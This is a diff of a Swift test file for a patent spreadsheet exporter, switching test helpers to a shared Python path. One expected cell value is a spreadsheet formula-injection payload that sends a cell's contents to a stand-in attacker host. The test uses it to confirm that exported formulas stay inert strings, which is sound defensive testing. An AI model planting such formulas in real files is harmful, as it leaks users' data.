@@ -2,6 +2,7 @@ import Foundation
 import PatentImport
 import PatentModel
 import PatentQuery
+import PatentTestSupport
 import Testing
 @testable import PatentExport
 
@@ -23,7 +24,6 @@ func run(_ executable: String, _ arguments: [String]) throws -> String {
 }
 
 /// The test helpers' Python (`make test` installs openpyxl into .build/venv).
-let python = ProcessInfo.processInfo.environment["PATENTS_PYTHON"] ?? ".build/venv/bin/python"
 
 func writeFile(_ type: ExportType, _ codes: String, _ records: [ExportRecord], languages: ExportLanguages = ExportLanguages()) throws -> String {
     // openpyxl goes by the extension.
@@ -56,7 +56,7 @@ func writeFile(_ type: ExportType, _ codes: String, _ records: [ExportRecord], l
             sheet = openpyxl.load_workbook(sys.argv[1]).active
             print(json.dumps([[c.value, c.data_type] for c in sheet[2]]))
             """
-        let cells = try #require(try JSONSerialization.jsonObject(with: Data(try run(python, ["-c", reader, path]).utf8)) as? [[String]])
+        let cells = try #require(try JSONSerialization.jsonObject(with: Data(try run(testPython, ["-c", reader, path]).utf8)) as? [[String]])
         #expect(cells.map { $0[0] } == ["US1234567B1", #"=HYPERLINK("http://evil.example/?"&B2,"click")"#, "+1 Smith | Jones"])
         #expect(cells.map { $0[1] } == ["s", "s", "s"], "every cell a string, none a formula ('f')")
         let sheet = try run("/usr/bin/unzip", ["-p", path, "xl/worksheets/sheet1.xml"])
@@ -71,7 +71,7 @@ func writeFile(_ type: ExportType, _ codes: String, _ records: [ExportRecord], l
         long = ExportRecord(patent: patent, families: [:])
         let path = try writeFile(.xls, "PN,APD,TTL,AN,ABST", [samplePatent(), long])
         defer { try? FileManager.default.removeItem(atPath: path) }
-        let json = try run(python, ["-c", Self.reader, path])
+        let json = try run(testPython, ["-c", Self.reader, path])
         let sheet = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
         let cells = try #require(sheet["cells"] as? [[Any]])
         #expect(sheet["title"] as? String == "Patents")
